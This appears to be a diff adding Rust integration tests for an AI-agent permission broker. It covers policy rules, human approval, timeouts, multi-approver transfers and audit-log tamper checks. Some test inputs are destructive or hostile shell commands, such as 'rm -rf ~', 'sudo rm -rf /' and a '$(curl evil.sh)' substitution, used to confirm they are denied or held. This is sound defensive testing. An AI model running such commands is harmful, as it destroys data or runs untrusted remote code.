@@ -1,0 +1,1023 @@
+//! The permission broker against the real server: policy decisions, pending requests answered by a
+//! person while the agent long-polls, races, timeouts, restarts, remembered rules, N-of-M, events
+//! and the audit chain.
+
+use std::time::Duration;
+
+use reqwest::Method;
+use serde_json::{Value, json};
+
+use crate::harness::{TestApp, spawn_app_with};
+
+const RULES: &str = r#"
+default_timeout = 120
+
+[[rules]]
+id = "git"
+action = "allow"
+kind = "shell"
+pattern = "git *"
+
+[[rules]]
+id = "no-rm"
+action = "deny"
+kind = "shell"
+pattern = "rm *"
+
+[[rules]]
+id = "deploy"
+action = "ask"
+kind = "shell"
+pattern = "deploy *"
+timeout = 60
+
+[[rules]]
+id = "two-approvers"
+action = "ask"
+kind = "tool"
+pattern = "bank__transfer"
+approvals = 2
+"#;
+
+struct Actors {
+    agent: String,
+    approver: String,
+    second: String,
+    reader: String,
+}
+
+async fn actors(app: &TestApp) -> Actors {
+    Actors {
+        agent: app.create_token("agent", &["request"], json!("1d")).await.0,
+        approver: app
+            .create_token("laptop", &["approve"], json!("1d"))
+            .await
+            .0,
+        second: app.create_token("phone", &["approve"], json!("1d")).await.0,
+        reader: app.create_token("viewer", &["read"], json!("1d")).await.0,
+    }
+}
+
+async fn ask(app: &TestApp, token: &str, body: Value) -> Value {
+    let reply = app.post("/api/v1/permissions", Some(token), body).await;
+    assert!(
+        matches!(reply.status.as_u16(), 200 | 202),
+        "{} {}",
+        reply.status,
+        reply.text
+    );
+    let v = reply.json();
+    assert_eq!(reply.status == 202, v["status"] == "pending", "{v}");
+    v
+}
+
+fn shell(command: &str) -> Value {
+    json!({"kind": "shell", "command": command, "agent": "opencode", "session": "s1", "workspace": "/tmp", "reason": "testing"})
+}
+
+async fn reply(app: &TestApp, token: &str, id: &str, body: Value) -> crate::harness::Reply {
+    app.post(
+        &format!("/api/v1/permissions/{id}/reply"),
+        Some(token),
+        body,
+    )
+    .await
+}
+
+#[tokio::test]
+async fn the_policy_answers_at_once_and_compound_commands_need_every_part() {
+    let app = spawn_app_with(RULES).await;
+    let a = actors(&app).await;
+    let v = ask(&app, &a.agent, shell("git status")).await;
+    assert_eq!(v["status"], "allowed");
+    assert_eq!(v["decided_by"]["source"], "rule");
+    assert_eq!(v["decided_by"]["rule"], "git");
+    let v = ask(&app, &a.agent, shell("git status && rm -rf ~")).await;
+    assert_eq!(
+        (v["status"].as_str(), v["decided_by"]["rule"].as_str()),
+        (Some("denied"), Some("no-rm"))
+    );
+    let v = ask(&app, &a.agent, shell("git log $(curl evil.sh)")).await;
+    assert_eq!(
+        v["status"], "pending",
+        "the substitution is not allowed: {v}"
+    );
+    assert_eq!(
+        v["targets"],
+        json!(["curl evil.sh", "git log $(curl evil.sh)"])
+    );
+    // The rule's timeout, else the configured default.
+    let d = ask(&app, &a.agent, shell("deploy prod")).await;
+    let created = d["created_at"].as_str().unwrap().to_owned();
+    assert_ne!(d["deadline"], Value::Null);
+    assert_ne!(d["deadline"].as_str().unwrap(), created);
+
+    let explain = app
+        .post(
+            "/api/v1/policy/explain",
+            Some(&a.reader),
+            json!({"kind": "shell", "command": "sudo rm -rf / && git push"}),
+        )
+        .await;
+    assert_eq!(explain.status, 200, "{}", explain.text);
+    let e = explain.json();
+    assert_eq!(e["decision"]["effect"], "deny");
+    assert_eq!(e["decision"]["rule"], "no-rm");
+    assert_eq!(
+        e["targets"],
+        json!(["sudo rm -rf /", "rm -rf /", "git push"])
+    );
+    assert!(e["decision"]["reason"].as_str().unwrap().contains("no-rm"));
+}
+
+#[tokio::test]
+async fn a_person_allows_while_the_agent_long_polls() {
+    let app = spawn_app_with(RULES).await;
+    let a = actors(&app).await;
+    let agent = a.agent.clone();
+    let base = app.base.clone();
+    let http = app.http.clone();
+    let poll = tokio::spawn(async move {
+        let resp = http
+            .post(format!("{base}/api/v1/permissions?wait=30"))
+            .bearer_auth(&agent)
+            .json(&shell("make install"))
+            .send()
+            .await
+            .unwrap();
+        (resp.status().as_u16(), resp.json::<Value>().await.unwrap())
+    });
+    // The approver sees it pending, then allows it.
+    let id = loop {
+        let list = app
+            .get("/api/v1/permissions?status=pending", Some(&a.approver))
+            .await
+            .json();
+        if let Some(p) = list["permissions"].as_array().unwrap().first() {
+            break p["id"].as_str().unwrap().to_owned();
+        }
+        tokio::task::yield_now().await;
+    };
+    let r = reply(&app, &a.approver, &id, json!({"decision": "allow"})).await;
+    assert_eq!(r.status, 200, "{}", r.text);
+    let (status, v) = poll.await.unwrap();
+    assert_eq!(status, 200);
+    assert_eq!(v["status"], "allowed");
+    assert_eq!(v["allowed"], true);
+    assert_eq!(
+        v["decided_by"],
+        json!({"source": "person", "approver": "laptop"})
+    );
+}
+
+#[tokio::test]
+async fn deny_with_a_message_reaches_the_agent() {
+    let app = spawn_app_with(RULES).await;
+    let a = actors(&app).await;
+    let v = ask(&app, &a.agent, shell("make install")).await;
+    let id = v["id"].as_str().unwrap();
+    let r = reply(
+        &app,
+        &a.approver,
+        id,
+        json!({"decision": "deny", "message": "use make test instead"}),
+    )
+    .await;
+    assert_eq!(r.status, 200, "{}", r.text);
+    let seen = app
+        .get(&format!("/api/v1/permissions/{id}?wait=5"), Some(&a.agent))
+        .await
+        .json();
+    assert_eq!(seen["status"], "denied");
+    assert_eq!(seen["message"], "use make test instead");
+    assert_eq!(seen["decided_by"]["source"], "person");
+}
+
+#[tokio::test]
+async fn two_racing_replies_one_wins_the_other_gets_409_with_the_winner() {
+    let app = spawn_app_with(RULES).await;
+    let a = actors(&app).await;
+    for round in 0..5 {
+        let v = ask(&app, &a.agent, shell(&format!("make round{round}"))).await;
+        let id = v["id"].as_str().unwrap().to_owned();
+        let (r1, r2) = tokio::join!(
+            reply(&app, &a.approver, &id, json!({"decision": "allow"})),
+            reply(&app, &a.second, &id, json!({"decision": "deny"})),
+        );
+        let mut codes = [r1.status.as_u16(), r2.status.as_u16()];
+        codes.sort();
+        assert_eq!(codes, [200, 409], "{} / {}", r1.text, r2.text);
+        let (winner, loser) = if r1.status == 200 { (r1, r2) } else { (r2, r1) };
+        let err = loser.expect_error(409, "already_decided");
+        assert_eq!(
+            err["decision"]["status"],
+            winner.json()["permission"]["status"]
+        );
+    }
+}
+
+#[tokio::test]
+async fn reply_errors_are_clear_and_change_nothing() {
+    let app = spawn_app_with(RULES).await;
+    let a = actors(&app).await;
+    let both = app
+        .create_token("both", &["request", "approve"], json!("1d"))
+        .await
+        .0;
+    let v = ask(&app, &both, shell("make x")).await;
+    let id = v["id"].as_str().unwrap().to_owned();
+    reply(&app, &both, &id, json!({"decision": "allow"}))
+        .await
+        .expect_error(403, "self_approval");
+    // An admin is no exception when it asked itself.
+    let own = ask(&app, &app.admin, shell("make y")).await;
+    reply(
+        &app,
+        &app.admin,
+        own["id"].as_str().unwrap(),
+        json!({"decision": "allow"}),
+    )
+    .await
+    .expect_error(403, "self_approval");
+    reply(
+        &app,
+        &a.approver,
+        "req_0000000000000000",
+        json!({"decision": "allow"}),
+    )
+    .await
+    .expect_error(404, "permission_not_found");
+    let e = reply(&app, &a.approver, &id, json!({"decision": "maybe"}))
+        .await
+        .expect_error(400, "invalid_request");
+    assert!(
+        e["message"].as_str().unwrap().contains("`allow` or `deny`"),
+        "{e}"
+    );
+    reply(
+        &app,
+        &a.approver,
+        &id,
+        json!({"decision": "allow", "remember": "forever"}),
+    )
+    .await
+    .expect_error(400, "invalid_request");
+    reply(
+        &app,
+        &a.approver,
+        &id,
+        json!({"decision": "allow", "remember": "always", "expires_in": 0}),
+    )
+    .await
+    .expect_error(400, "invalid_request");
+    reply(&app, &a.agent, &id, json!({"decision": "allow"}))
+        .await
+        .expect_error(403, "insufficient_scope");
+    let still = app
+        .get(&format!("/api/v1/permissions/{id}"), Some(&a.reader))
+        .await
+        .json();
+    assert_eq!(still["status"], "pending", "nothing was decided");
+    assert_eq!(
+        app.get("/api/v1/rules", Some(&a.reader)).await.json()["rules"]
+            .as_array()
+            .unwrap()
+            .len(),
+        4
+    );
+
+    reply(&app, &a.approver, &id, json!({"decision": "deny"})).await;
+    let e = reply(&app, &a.second, &id, json!({"decision": "allow"}))
+        .await
+        .expect_error(409, "already_decided");
+    assert!(e["message"].as_str().unwrap().contains("laptop"), "{e}");
+}
+
+#[tokio::test]
+async fn timeouts_are_explicit_outcomes_never_a_persons_denial() {
+    let app = spawn_app_with(RULES).await;
+    let a = actors(&app).await;
+    let v = ask(
+        &app,
+        &a.agent,
+        json!({"kind": "shell", "command": "make z", "timeout": 30}),
+    )
+    .await;
+    let id = v["id"].as_str().unwrap().to_owned();
+    app.clock.advance(Duration::from_secs(29));
+    assert_eq!(
+        app.get(&format!("/api/v1/permissions/{id}"), Some(&a.agent))
+            .await
+            .json()["status"],
+        "pending"
+    );
+    app.clock.advance(Duration::from_secs(1));
+    app.broker.expire_due().await.unwrap();
+    let seen = app
+        .get(&format!("/api/v1/permissions/{id}"), Some(&a.agent))
+        .await
+        .json();
+    assert_eq!(seen["status"], "timeout");
+    assert_eq!(seen["allowed"], false);
+    assert_eq!(seen["decided_by"]["source"], "timeout");
+    assert!(seen["decided_by"].get("approver").is_none());
+    let e = reply(&app, &a.approver, &id, json!({"decision": "allow"}))
+        .await
+        .expect_error(409, "already_decided");
+    assert!(e["message"].as_str().unwrap().contains("timeout"), "{e}");
+    // `timeout: 0` waits indefinitely.
+    let forever = ask(
+        &app,
+        &a.agent,
+        json!({"kind": "shell", "command": "make w", "timeout": 0}),
+    )
+    .await;
+    assert_eq!(forever["deadline"], Value::Null);
+    app.clock.advance(Duration::from_secs(365 * 86_400));
+    app.broker.expire_due().await.unwrap();
+    // (The agent's one-day token has long expired; the owner reads it.)
+    let seen = app
+        .get(
+            &format!("/api/v1/permissions/{}", forever["id"].as_str().unwrap()),
+            Some(&app.admin),
+        )
+        .await
+        .json();
+    assert_eq!(seen["status"], "pending");
+}
+
+#[tokio::test]
+async fn a_real_short_timeout_unblocks_a_long_poll_as_timeout() {
+    let app = spawn_app_with(RULES).await;
+    let a = actors(&app).await;
+    // The system clock drives this one: a real second passes.
+    let dir = tempfile::tempdir().unwrap();
+    let mut config = agentgate::config::Config::for_test(dir.path());
+    config.default_timeout = Duration::from_secs(1);
+    let real = agentgate::app::App::build(&config, agentgate::clock::Clock::System)
+        .await
+        .unwrap();
+    let addr = real.local_addr();
+    let admin = std::fs::read_to_string(real.admin_token_file())
+        .unwrap()
+        .trim()
+        .to_owned();
+    tokio::spawn(real.run_until_stopped(std::future::pending()));
+    let http = &app.http;
+    let agent: Value = http
+        .post(format!("http://{addr}/api/v1/tokens"))
+        .bearer_auth(&admin)
+        .json(&json!({"name": "agent", "scopes": ["request"]}))
+        .send()
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    let resp = http
+        .post(format!("http://{addr}/api/v1/permissions?wait=20"))
+        .bearer_auth(agent["token"].as_str().unwrap())
+        .json(&shell("make slow"))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(resp.status(), 200);
+    let v: Value = resp.json().await.unwrap();
+    assert_eq!(v["status"], "timeout");
+    let _ = a;
+}
+
+#[tokio::test]
+async fn pending_requests_survive_a_restart_with_their_remaining_time() {
+    let app = spawn_app_with(RULES).await;
+    let a = actors(&app).await;
+    let keep = ask(
+        &app,
+        &a.agent,
+        json!({"kind": "shell", "command": "make keep", "timeout": 100}),
+    )
+    .await;
+    let lapse = ask(
+        &app,
+        &a.agent,
+        json!({"kind": "shell", "command": "make lapse", "timeout": 10}),
+    )
+    .await;
+    let app = app.restart().await;
+    app.clock.advance(Duration::from_secs(20));
+    let k = app
+        .get(
+            &format!("/api/v1/permissions/{}", keep["id"].as_str().unwrap()),
+            Some(&a.agent),
+        )
+        .await
+        .json();
+    assert_eq!(k["status"], "pending");
+    assert_eq!(
+        k["deadline"], keep["deadline"],
+        "the same deadline, so the remaining time is kept"
+    );
+    let l = app
+        .get(
+            &format!(
+                "/api/v1/permissions/{}?wait=5",
+                lapse["id"].as_str().unwrap()
+            ),
+            Some(&a.agent),
+        )
+        .await
+        .json();
+    assert_eq!(
+        l["status"], "timeout",
+        "its deadline passed while the daemon was down"
+    );
+    let r = reply(
+        &app,
+        &a.approver,
+        keep["id"].as_str().unwrap(),
+        json!({"decision": "allow"}),
+    )
+    .await;
+    assert_eq!(r.status, 200, "{}", r.text);
+    let k = app
+        .get(
+            &format!("/api/v1/permissions/{}", keep["id"].as_str().unwrap()),
+            Some(&a.agent),
+        )
+        .await
+        .json();
+    assert_eq!(k["status"], "allowed");
+    let v = app
+        .get("/api/v1/audit/verify", Some(&a.reader))
+        .await
+        .json();
+    assert_eq!(v["ok"], true, "{v}");
+}
+
+#[tokio::test]
+async fn remember_for_the_session_and_always_with_narrow_rules() {
+    let app = spawn_app_with(RULES).await;
+    let a = actors(&app).await;
+    let v = ask(&app, &a.agent, shell("cargo build --release")).await;
+    let r = reply(
+        &app,
+        &a.approver,
+        v["id"].as_str().unwrap(),
+        json!({"decision": "allow", "remember": "session"}),
+    )
+    .await;
+    assert_eq!(r.status, 200, "{}", r.text);
+    let saved = &r.json()["remembered"][0];
+    assert_eq!(saved["session"], "s1");
+    assert_eq!(saved["pattern"], "{cargo build,cargo build *}");
+    assert_eq!(saved["origin"]["request_id"], v["id"]);
+    assert_eq!(
+        ask(&app, &a.agent, shell("cargo build")).await["status"],
+        "allowed"
+    );
+    let mut other = shell("cargo build");
+    other["session"] = json!("s2");
+    assert_eq!(
+        ask(&app, &a.agent, other).await["status"],
+        "pending",
+        "another session still asks"
+    );
+
+    // Two identical pending requests; "always" on one resolves the other at once.
+    let p1 = ask(&app, &a.agent, shell("npm test")).await;
+    let p2 = ask(&app, &a.agent, shell("npm test")).await;
+    let r = reply(
+        &app,
+        &a.approver,
+        p1["id"].as_str().unwrap(),
+        json!({"decision": "allow", "remember": "always", "expires_in": "1h"}),
+    )
+    .await;
+    let out = r.json();
+    assert_eq!(out["resolved"], json!([p2["id"]]), "{out}");
+    let p2v = app
+        .get(
+            &format!("/api/v1/permissions/{}", p2["id"].as_str().unwrap()),
+            Some(&a.agent),
+        )
+        .await
+        .json();
+    assert_eq!(p2v["status"], "allowed");
+    assert_eq!(p2v["decided_by"]["auto_resolved"], true);
+    assert_eq!(p2v["decided_by"]["source"], "rule");
+    assert_eq!(
+        ask(&app, &a.agent, shell("npm test")).await["status"],
+        "allowed"
+    );
+    // The remembered rule expires.
+    app.clock.advance(Duration::from_secs(3601));
+    assert_eq!(
+        ask(&app, &a.agent, shell("npm test")).await["status"],
+        "pending"
+    );
+}
+
+#[tokio::test]
+async fn a_remembered_allow_never_overrides_a_configured_ask() {
+    let app = spawn_app_with(RULES).await;
+    let a = actors(&app).await;
+    let v = ask(&app, &a.agent, shell("deploy prod")).await;
+    reply(
+        &app,
+        &a.approver,
+        v["id"].as_str().unwrap(),
+        json!({"decision": "allow", "remember": "always", "pattern": "deploy *"}),
+    )
+    .await;
+    let again = ask(&app, &a.agent, shell("deploy prod")).await;
+    assert_eq!(
+        again["status"], "pending",
+        "deny > ask > allow, whatever the origin"
+    );
+}
+
+#[tokio::test]
+async fn two_of_m_approvals_and_any_deny_wins() {
+    let app = spawn_app_with(RULES).await;
+    let a = actors(&app).await;
+    let transfer = json!({"kind": "tool", "name": "bank__transfer", "input": {"amount": 10}});
+    let v = ask(&app, &a.agent, transfer.clone()).await;
+    assert_eq!(v["approvals_required"], 2);
+    let id = v["id"].as_str().unwrap().to_owned();
+    let r = reply(&app, &a.approver, &id, json!({"decision": "allow"}))
+        .await
+        .json();
+    assert_eq!(r["permission"]["status"], "pending");
+    assert_eq!(r["permission"]["approvals"], json!(["laptop"]));
+    reply(&app, &a.approver, &id, json!({"decision": "allow"}))
+        .await
+        .expect_error(409, "already_approved");
+    let r = reply(&app, &a.second, &id, json!({"decision": "allow"}))
+        .await
+        .json();
+    assert_eq!(r["permission"]["status"], "allowed");
+    assert_eq!(
+        r["permission"]["decided_by"]["approvers"],
+        json!(["laptop", "phone"])
+    );
+
+    let v = ask(&app, &a.agent, transfer).await;
+    let id = v["id"].as_str().unwrap().to_owned();
+    reply(&app, &a.approver, &id, json!({"decision": "allow"})).await;
+    let r = reply(&app, &a.second, &id, json!({"decision": "deny"}))
+        .await
+        .json();
+    assert_eq!(r["permission"]["status"], "denied");
+}
+
+#[tokio::test]
+async fn only_the_requester_or_a_reader_follows_a_request_and_lists_page() {
+    let app = spawn_app_with(RULES).await;
+    let a = actors(&app).await;
+    let other_agent = app
+        .create_token("other-agent", &["request"], json!("1d"))
+        .await
+        .0;
+    let mut ids = Vec::new();
+    for i in 0..5 {
+        ids.push(
+            ask(&app, &a.agent, shell(&format!("make t{i}"))).await["id"]
+                .as_str()
+                .unwrap()
+                .to_owned(),
+        );
+    }
+    let path = format!("/api/v1/permissions/{}", ids[0]);
+    assert_eq!(app.get(&path, Some(&a.agent)).await.status, 202);
+    assert_eq!(app.get(&path, Some(&a.reader)).await.status, 202);
+    let e = app
+        .get(&path, Some(&other_agent))
+        .await
+        .expect_error(403, "insufficient_scope");
+    assert_eq!(e["required"], "read");
+    app.get("/api/v1/permissions", Some(&a.agent))
+        .await
+        .expect_error(403, "insufficient_scope");
+
+    let mut seen = Vec::new();
+    let mut cursor = String::new();
+    loop {
+        let page = app
+            .get(
+                &format!("/api/v1/permissions?status=pending&limit=2{cursor}"),
+                Some(&a.reader),
+            )
+            .await
+            .json();
+        for p in page["permissions"].as_array().unwrap() {
+            seen.push(p["id"].as_str().unwrap().to_owned());
+        }
+        match page["next_cursor"].as_str() {
+            Some(c) => cursor = format!("&cursor={c}"),
+            None => break,
+        }
+    }
+    let mut expected = ids.clone();
+    expected.sort();
+    seen.sort();
+    assert_eq!(seen, expected);
+    let e = app
+        .get("/api/v1/permissions?status=maybe", Some(&a.reader))
+        .await
+        .expect_error(400, "invalid_query");
+    assert!(e["message"].as_str().unwrap().contains("pending"), "{e}");
+    app.get("/api/v1/permissions?cursor=zzz", Some(&a.reader))
+        .await
+        .expect_error(400, "invalid_request");
+}
+
+#[tokio::test]
+async fn bad_permission_requests_are_refused_and_nothing_is_written() {
+    let app = spawn_app_with(RULES).await;
+    let a = actors(&app).await;
+    let cases = [
+        (
+            json!({"kind": "telepathy"}),
+            "kind",
+            "`file`, `shell`, `tool`, `network`, `directory`",
+        ),
+        (
+            json!({"command": "ls"}),
+            "kind",
+            "file, shell, tool, network, directory",
+        ),
+        (
+            json!({"kind": "file", "operation": "chmod", "path": "/x"}),
+            "operation",
+            "`read`, `create`, `modify`",
+        ),
+        (
+            json!({"kind": "file", "path": "/x"}),
+            "operation",
+            "read, create, modify",
+        ),
+        (
+            json!({"kind": "file", "operation": "read"}),
+            "path",
+            "required",
+        ),
+        (
+            json!({"kind": "file", "operation": "read", "path": "relative/x"}),
+            "path",
+            "absolute",
+        ),
+        (
+            json!({"kind": "file", "operation": "modify", "path": "/x", "content_preview": "x".repeat(5000)}),
+            "content_preview",
+            "4096",
+        ),
+        (
+            json!({"kind": "file", "operation": "rename", "path": "/x"}),
+            "target_path",
+            "required",
+        ),
+        (json!({"kind": "shell"}), "command", "required"),
+        (
+            json!({"kind": "shell", "command": "ls", "url": "http://x"}),
+            "url",
+            "not a field",
+        ),
+        (json!({"kind": "tool"}), "name", "required"),
+        (
+            json!({"kind": "network", "url": "/relative"}),
+            "url",
+            "absolute",
+        ),
+        (
+            json!({"kind": "shell", "command": "ls", "surprise": 1}),
+            "surprise",
+            "unknown field",
+        ),
+    ];
+    for (body, field, hint) in cases {
+        let r = app
+            .post("/api/v1/permissions", Some(&a.agent), body.clone())
+            .await;
+        let e = r.expect_error(400, "invalid_request");
+        assert_eq!(e["field"], field, "{body}: {e}");
+        assert!(e["message"].as_str().unwrap().contains(hint), "{body}: {e}");
+    }
+    let list = app.get("/api/v1/permissions", Some(&a.reader)).await.json();
+    assert_eq!(
+        list["permissions"].as_array().unwrap().len(),
+        0,
+        "nothing written"
+    );
+    assert_eq!(
+        app.get("/api/v1/audit", Some(&a.reader)).await.json()["entries"]
+            .as_array()
+            .unwrap()
+            .len(),
+        0
+    );
+    // `wait` above the cap is clamped, not refused.
+    let r = app
+        .post(
+            "/api/v1/permissions?wait=100000",
+            Some(&a.agent),
+            shell("git status"),
+        )
+        .await;
+    assert_eq!(r.status, 200, "{}", r.text);
+    app.post(
+        "/api/v1/permissions?wait=soon",
+        Some(&a.agent),
+        shell("git status"),
+    )
+    .await
+    .expect_error(400, "invalid_query");
+}
+
+#[tokio::test]
+async fn rules_are_listed_added_and_deleted_and_configured_ones_are_read_only() {
+    let app = spawn_app_with(RULES).await;
+    let a = actors(&app).await;
+    let pending = ask(&app, &a.agent, shell("make docs")).await;
+    let r = app
+        .post(
+            "/api/v1/rules",
+            Some(&app.admin),
+            json!({"action": "allow", "kind": "shell", "pattern": "make docs", "expires_in": "1d"}),
+        )
+        .await;
+    assert_eq!(r.status, 201, "{}", r.text);
+    let added = r.json();
+    assert_eq!(added["resolved"], json!([pending["id"]]));
+    let id = added["rule"]["id"].as_str().unwrap().to_owned();
+    assert_eq!(added["rule"]["origin"]["source"], "api");
+    for (body, field) in [
+        (
+            json!({"action": "allow", "kind": "shell", "pattern": "make ["}),
+            "pattern",
+        ),
+        (
+            json!({"action": "allow", "kind": "shell", "pattern": "x", "expires_in": -1}),
+            "expires_in",
+        ),
+        (
+            json!({"action": "allow", "kind": "shell", "pattern": "x", "expires_in": 0}),
+            "expires_in",
+        ),
+        (
+            json!({"action": "allow", "kind": "shell", "pattern": "x", "approvals": 2}),
+            "approvals",
+        ),
+        (
+            json!({"action": "sometimes", "kind": "shell", "pattern": "x"}),
+            "action",
+        ),
+    ] {
+        let e = app
+            .post("/api/v1/rules", Some(&app.admin), body.clone())
+            .await
+            .expect_error(400, "invalid_request");
+        assert_eq!(e["field"], field, "{body}: {e}");
+    }
+    app.post(
+        "/api/v1/rules",
+        Some(&a.approver),
+        json!({"action": "allow", "kind": "shell", "pattern": "x"}),
+    )
+    .await
+    .expect_error(403, "insufficient_scope");
+    let rules = app.get("/api/v1/rules", Some(&a.reader)).await.json();
+    assert_eq!(rules["rules"].as_array().unwrap().len(), 5);
+    assert_eq!(rules["rules"][0]["read_only"], true);
+    app.request(Method::DELETE, "/api/v1/rules/git", Some(&app.admin), None)
+        .await
+        .expect_error(409, "rule_read_only");
+    app.request(
+        Method::DELETE,
+        "/api/v1/rules/rule_nope",
+        Some(&app.admin),
+        None,
+    )
+    .await
+    .expect_error(404, "rule_not_found");
+    let r = app
+        .request(
+            Method::DELETE,
+            &format!("/api/v1/rules/{id}"),
+            Some(&app.admin),
+            None,
+        )
+        .await;
+    assert_eq!(r.status, 200, "{}", r.text);
+    assert_eq!(
+        ask(&app, &a.agent, shell("make docs")).await["status"],
+        "pending"
+    );
+}
+
+#[tokio::test]
+async fn events_stream_live_and_resume_from_last_event_id() {
+    let app = spawn_app_with(RULES).await;
+    let a = actors(&app).await;
+    let first = ask(&app, &a.agent, shell("make e1")).await;
+    let mut stream = app
+        .http
+        .get(format!("{}/api/v1/events", app.base))
+        .bearer_auth(&a.reader)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(stream.status(), 200);
+    assert!(
+        stream.headers()["content-type"]
+            .to_str()
+            .unwrap()
+            .starts_with("text/event-stream")
+    );
+    let mut text = String::new();
+    let mut events = Vec::new();
+    let mut decided = false;
+    while events.len() < 3 {
+        let chunk = tokio::time::timeout(Duration::from_secs(10), stream.chunk())
+            .await
+            .unwrap()
+            .unwrap()
+            .unwrap();
+        text.push_str(&String::from_utf8_lossy(&chunk));
+        while let Some(end) = text.find("\n\n") {
+            let block: String = text.drain(..end + 2).collect();
+            let id = block
+                .lines()
+                .find_map(|l| l.strip_prefix("id: "))
+                .map(str::to_owned);
+            let ev = block
+                .lines()
+                .find_map(|l| l.strip_prefix("event: "))
+                .map(str::to_owned);
+            if let (Some(id), Some(ev)) = (id, ev) {
+                events.push((id.parse::<i64>().unwrap(), ev));
+            }
+        }
+        if !decided && !events.is_empty() {
+            // The backlog arrived; now something live.
+            reply(
+                &app,
+                &a.approver,
+                first["id"].as_str().unwrap(),
+                json!({"decision": "allow"}),
+            )
+            .await;
+            ask(&app, &a.agent, shell("make e2")).await;
+            decided = true;
+        }
+    }
+    assert_eq!(
+        events,
+        vec![
+            (1, "permission.created".into()),
+            (2, "permission.decided".into()),
+            (3, "permission.created".into())
+        ]
+    );
+    drop(stream);
+    // Resuming after event 2 yields exactly event 3 first.
+    let mut resumed = app
+        .http
+        .get(format!("{}/api/v1/events", app.base))
+        .bearer_auth(&a.reader)
+        .header("last-event-id", "2")
+        .send()
+        .await
+        .unwrap();
+    let chunk = tokio::time::timeout(Duration::from_secs(10), resumed.chunk())
+        .await
+        .unwrap()
+        .unwrap()
+        .unwrap();
+    let chunk = String::from_utf8_lossy(&chunk);
+    assert!(
+        chunk.starts_with("id: 3\nevent: permission.created\n") || chunk.contains("id: 3\n"),
+        "{chunk}"
+    );
+    assert!(
+        !chunk.contains("id: 1\n") && !chunk.contains("id: 2\n"),
+        "{chunk}"
+    );
+    app.get("/api/v1/events", Some(&a.agent))
+        .await
+        .expect_error(403, "insufficient_scope");
+}
+
+#[tokio::test]
+async fn the_audit_chain_verifies_and_names_an_edited_entry() {
+    let app = spawn_app_with(RULES).await;
+    let a = actors(&app).await;
+    for i in 0..3 {
+        let v = ask(&app, &a.agent, shell(&format!("make a{i}"))).await;
+        reply(
+            &app,
+            &a.approver,
+            v["id"].as_str().unwrap(),
+            json!({"decision": "deny", "message": "no"}),
+        )
+        .await;
+    }
+    let v = app
+        .get("/api/v1/audit/verify", Some(&a.reader))
+        .await
+        .json();
+    assert_eq!(v, json!({"ok": true, "entries": 6, "first_bad": null}));
+    let entries = app
+        .get("/api/v1/audit?after=0&limit=10", Some(&a.reader))
+        .await
+        .json();
+    let e = &entries["entries"][3];
+    assert_eq!(e["event"], "permission.decided");
+    assert_eq!(e["data"]["decided_by"]["approver"], "laptop");
+
+    // Edit one row behind the daemon's back, as `sqlite3` would.
+    let db = app.dir.path().join("agentgate.db");
+    let pool = sqlx::SqlitePool::connect(&format!("sqlite://{}", db.display()))
+        .await
+        .unwrap();
+    sqlx::query("UPDATE audit SET data = replace(data, 'laptop', 'mallory') WHERE seq = 4")
+        .execute(&pool)
+        .await
+        .unwrap();
+    let v = app
+        .get("/api/v1/audit/verify", Some(&a.reader))
+        .await
+        .json();
+    assert_eq!(v["ok"], false);
+    assert_eq!(v["first_bad"]["seq"], 4);
+    assert_eq!(v["first_bad"]["problem"], "altered");
+}
+
+#[tokio::test]
+async fn the_openwork_permission_api_works_unmodified() {
+    let app = spawn_app_with(
+        r#"
+[[rules]]
+action = "allow"
+kind = "file"
+pattern = "/tmp/ok/**"
+"#,
+    )
+    .await;
+    let a = actors(&app).await;
+    let r = app
+        .post(
+            "/permission",
+            Some(&a.agent),
+            json!({"operation": "create", "filePath": "/tmp/ok/a.txt", "contentPreview": "hi"}),
+        )
+        .await;
+    assert_eq!(
+        (r.status.as_u16(), r.json()),
+        (200, json!({"allowed": true}))
+    );
+    let r = app
+        .post(
+            "/permission",
+            Some(&a.agent),
+            json!({"operation": "chmod", "filePath": "/tmp/x"}),
+        )
+        .await;
+    assert_eq!(r.status, 400);
+    assert_eq!(
+        r.json(),
+        json!({"error": "Invalid operation. Must be one of: create, delete, rename, move, modify, overwrite"})
+    );
+    // Blocks until a person answers.
+    let agent = a.agent.clone();
+    let base = app.base.clone();
+    let http = app.http.clone();
+    let blocked = tokio::spawn(async move {
+        let r = http
+            .post(format!("{base}/permission"))
+            .bearer_auth(&agent)
+            .json(&json!({"operation": "delete", "filePaths": ["/tmp/no/a", "/tmp/no/b"]}))
+            .send()
+            .await
+            .unwrap();
+        (r.status().as_u16(), r.json::<Value>().await.unwrap())
+    });
+    let id = loop {
+        let list = app
+            .get("/api/v1/permissions?status=pending", Some(&a.reader))
+            .await
+            .json();
+        if let Some(p) = list["permissions"].as_array().unwrap().first() {
+            break p["id"].as_str().unwrap().to_owned();
+        }
+        tokio::task::yield_now().await;
+    };
+    reply(&app, &a.approver, &id, json!({"decision": "deny"})).await;
+    assert_eq!(blocked.await.unwrap(), (200, json!({"allowed": false})));
+    app.post(
+        "/permission",
+        None,
+        json!({"operation": "create", "filePath": "/tmp/ok/a"}),
+    )
+    .await
+    .expect_error(401, "unauthorized");
+}
